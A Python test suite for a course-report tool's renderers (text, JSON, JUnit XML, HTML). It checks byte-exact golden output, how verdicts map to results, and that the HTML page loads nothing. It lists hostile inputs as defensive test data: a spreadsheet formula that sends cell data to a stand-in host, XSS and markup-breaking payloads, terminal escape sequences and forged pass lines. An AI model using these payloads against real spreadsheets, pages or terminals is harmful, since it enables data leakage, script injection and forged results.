"""Every format of the report: to the byte as agreed, and with nothing a learner controls ever interpreted."""

import importlib
import inspect
import json
import os
import pkgutil
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from checkday import outputs
from checkday.cli.check_day import FORMATS
from checkday.model import Code, Course, Day, Finding, Milestone, Proof, Report, Sighting, Task, Verdict
from checkday.outputs import as_html, as_junit
from checkday.plain import plain
from checkday.words import Words

SITE = "https://example.org/course"
GOLDEN = Path(__file__).parent / "golden"
RENDERERS = {
    found.name: module
    for found in pkgutil.iter_modules(outputs.__path__)
    if hasattr(module := importlib.import_module(f"checkday.outputs.{found.name}"), "render")
    and "report" in inspect.signature(module.render).parameters  # a cohort's page has tests of its own
}
SUFFIX = {"as_text": "txt", "as_json": "json", "as_junit": "xml", "as_html": "html"}


def milestone(name, task="day1/box"):
    seen = {"vi": "Thấy {actual}.", "en": "Saw {actual}."}
    todo = {"vi": "Sửa {actual} đi.", "en": "Mend {actual}."}
    codes = {"wrong": Code("wrong", seen, todo), "slow": Code("slow", seen, todo)}
    title = {"vi": f"Có {name}", "en": f"Have {name}"}
    return Milestone(f"day1.{name}", task, title, 2, "event", (), (), codes)


NAMES = {"day1/box": ("box", "lid", "lock", "key"), "day1/stream": ("water", "mill", "wheel")}
MILESTONES = {
    one.id: one for task, names in NAMES.items() for one in (milestone(name, task) for name in names)
}
TASKS = tuple(
    Task(
        task, {"vi": f"Bài {task}", "en": f"Task {task}"}, {}, 5, 0.0, tuple(f"day1.{name}" for name in names)
    )
    for task, names in NAMES.items()
)
COURSE = Course("sha256:0", {}, {1: Day(1, {}, {}, TASKS)}, MILESTONES)
SIGHTING = Sighting("s3:HeadBucket", "ap-southeast-1", "REQ1", "2026-01-15T08:00:00Z", "sha256:1")


def found(name, verdict, code=None, **rest):
    return Finding(MILESTONES[f"day1.{name}"], verdict, code, seconds=0.25, **rest)


def report(value="fcj-an01-box"):
    """One of everything; the value stands wherever a learner or AWS chooses the text."""
    facts = {"actual": value}
    sighting = replace(SIGHTING, call=value, region=value, request_id=value, at=value)
    findings = (
        found("box", Verdict.PASSED, proof=Proof.LIVE, evidence=[sighting], facts=facts),
        found("lid", Verdict.PASSED, "wrong", proof=Proof.RECORD, facts=facts),
        found("lock", Verdict.FAILED, "wrong", facts=facts, evidence=[SIGHTING]),
        found("key", Verdict.SKIPPED, cause="day1.lock"),
        found("water", Verdict.PENDING, "slow", facts=facts, retry_in=30),
        found("mill", Verdict.BLOCKED, "no_network", facts={"endpoint": value}, cause="no_network"),
        found("wheel", Verdict.ERROR, "broken_check", facts={"detail": value}),
    )
    return Report(
        course_version="sha256:0",
        tool_version="1.0.0",
        learner=value,
        account=value,
        principal=value,
        regions=(value, "us-east-1"),
        origin="simulated",
        mode="check",
        started="2026-01-15T08:00:00Z",
        finished="2026-01-15T08:00:02Z",
        findings=findings,
        requests=3,
    )


def rendered(name, shown, language="vi"):
    """What a renderer makes of a report; it takes what it needs of the four."""
    offered = {"report": shown, "course": COURSE, "words": Words(language), "site": SITE}
    render = RENDERERS[name].render
    return render(**{key: offered[key] for key in inspect.signature(render).parameters})


# To the byte


@pytest.mark.parametrize("language", ["vi", "en"])
@pytest.mark.parametrize("name", RENDERERS)
def test_golden(name, language):
    actual = rendered(name, report(), language)
    path = GOLDEN / f"report.{language}.{SUFFIX[name]}"
    if os.environ.get("UPDATE_GOLDEN") == "1":
        path.parent.mkdir(exist_ok=True)
        path.write_text(actual, encoding="utf-8")
    assert actual == path.read_text(encoding="utf-8"), "if this is meant: UPDATE_GOLDEN=1 pytest"


def test_every_renderer_is_a_format_and_every_format_has_one():
    assert {f"as_{name}" for name in FORMATS} == set(RENDERERS) == set(SUFFIX)


def test_rendering_twice_gives_the_same_bytes():
    for name in RENDERERS:
        assert rendered(name, report()) == rendered(name, report())


# Hostile text: the cases T1 to T3 of the threat list, for every renderer there is

FORMULAS = ('=HYPERLINK("http://x/?"&A1)', "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "＝1")  # noqa: RUF001
MARKUP = (
    "<img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "' onload='x",
    "javascript:alert(1)",
    "</script></style></title>",
    "]]><!--",
    "&lt;b&gt; &#27;",
    "[bold green]PASS[/]",
    "{actual} {0.__class__} %s $id",
)
CONTROLS = (
    "\x1b[2J",
    "\x1b]8;;http://x/\x1b\\here\x1b]8;;\x1b\\",
    "\x9b31m",
    "\x07\x00\x7f",
    "\u202ePASS",
    "\u200b\u2066\ufeff",
    "x\r\nday1: PASS",
    "x\u2028day1: PASS\u2029",
    "lone \ud800 surrogate",
)


def parsed(shown):
    return ET.fromstring(shown)  # noqa: S314 - what our own renderer wrote


def text_of(shown):
    return [shown]


def json_of(shown):
    def strings(value):
        if isinstance(value, dict):
            value = list(value.values())
        return [one for inner in value for one in strings(inner)] if isinstance(value, list) else [str(value)]

    return strings(json.loads(shown))


JUNIT = {"testsuites", "testsuite", "testcase", "properties", "property", "failure", "error", "skipped"}


def junit_of(shown):
    elements = list(parsed(shown).iter())
    assert {one.tag for one in elements} <= JUNIT
    return [text for one in elements for text in (*one.attrib.values(), one.text or "")]


class _Browser(HTMLParser):
    """What a browser would make of the page, and a refusal of what the page must not have."""

    FRAME = ("html", "head", "meta", "title", "style", "body", "header", "main", "section", "h1", "h2", "p")
    PARTS = ("a", "span", "code", "time", "ul", "li", "details", "summary", "table", "tbody", "tr", "td")
    PLAIN = ("lang", "charset", "http-equiv", "content", "name", "datetime", "class", "href", "aria-hidden")

    def __init__(self, shown):
        super().__init__()
        self.texts = []
        self.feed(shown)

    def handle_starttag(self, tag, attrs):
        assert tag in (*self.FRAME, *self.PARTS)
        for name, value in attrs:
            assert name in self.PLAIN
            assert name != "href" or value.startswith(SITE + "/")
            self.texts.append(value)

    def handle_data(self, data):
        self.texts.append(data)

    def handle_comment(self, data):
        pytest.fail(data)


READERS = {
    "as_text": text_of,
    "as_json": json_of,
    "as_junit": junit_of,
    "as_html": lambda shown: _Browser(shown).texts,
}
"""How the program that opens a format reads it: a renderer without a reader here cannot be trusted."""


def test_every_renderer_is_read_back():
    assert set(READERS) == set(RENDERERS)


@pytest.mark.parametrize("value", [*FORMULAS, *MARKUP, *CONTROLS], ids=ascii)
@pytest.mark.parametrize("name", RENDERERS)
def test_hostile_text_stays_text(name, value):
    shown = rendered(name, report(value))
    raw = [one for one in shown if not one.isprintable() and one != "\n"]
    assert raw == []
    assert not any(line.startswith("day1: PASS") for line in shown.splitlines())
    assert any(value in text or plain(value) in text for text in READERS[name](shown))


def test_no_character_that_xml_forbids_gets_in():
    forbidden = "".join(map(chr, range(0x20))) + "\ufffe\uffff\ud800\udfff"
    for start in range(0, len(forbidden), 8):
        junit_of(rendered("as_junit", report(forbidden[start : start + 8])))


# JUnit


def test_each_verdict_has_its_result():
    suites = parsed(rendered("as_junit", report()))
    results = {case.get("name"): [one.tag for one in case] for case in suites.iter("testcase")}
    assert results == {
        "day1.box": [],
        "day1.lid": [],
        "day1.lock": ["failure"],
        "day1.key": ["skipped"],
        "day1.water": ["skipped"],
        "day1.mill": ["skipped"],
        "day1.wheel": ["error"],
    }


def test_a_suite_is_a_task_and_counts_its_cases():
    suites = parsed(rendered("as_junit", report()))
    counted = [
        [one.get(name) for name in ("name", "tests", "failures", "errors", "skipped", "time")]
        for one in suites
    ]
    assert counted == [
        ["day1/box", "4", "1", "0", "1", "1.000"],
        ["day1/stream", "3", "0", "1", "2", "0.750"],
    ]
    assert [suites.get(name) for name in ("tests", "failures", "errors", "skipped")] == ["7", "1", "1", "3"]


def test_what_is_skipped_says_why():
    case = parsed(rendered("as_junit", report(), "en")).find(".//testcase[@name='day1.mill']/skipped")
    assert case.get("message") == "could not look: No connection to fcj-an01-box."
    assert case.get("type") == "blocked.no_network"
    assert f"{SITE}/en/reference/messages.html#cause.no_network" in case.text


# HTML


def test_the_page_may_load_and_run_nothing():
    shown = rendered("as_html", report())
    assert "default-src 'none'; style-src 'unsafe-inline'" in _Browser(shown).texts
    assert not any(word in shown for word in ("<script", "url(", "@import", "src=", 'http-equiv="refresh'))


def test_the_page_links_to_the_place_that_helps():
    assert f'href="{SITE}/vi/day1/box.html#lock.wrong"' in rendered("as_html", report())


@pytest.mark.parametrize("language", ["vi", "en"])
def test_the_page_speaks_the_users_language(language):
    shown = rendered("as_html", report(), language)
    assert shown.startswith(f'<!doctype html>\n<html lang="{language}">')
    assert Words(language)("html.title") in shown


def test_text_after_an_element_is_kept_and_escaped():
    shown = ET.tostring(
        as_html.tag("p", "a", as_html.tag("b", "<"), "&", "c", class_="x"), encoding="unicode"
    )
    assert shown == '<p class="x">a<b>&lt;</b>&amp;c</p>'


def test_a_report_without_findings_is_no_reason_to_fail():
    for name in RENDERERS:
        assert rendered(name, replace(report(), findings=()))
    assert (
        as_junit.render(replace(report(), findings=()), COURSE, Words("en"), SITE).count("<testsuite ") == 0
    )
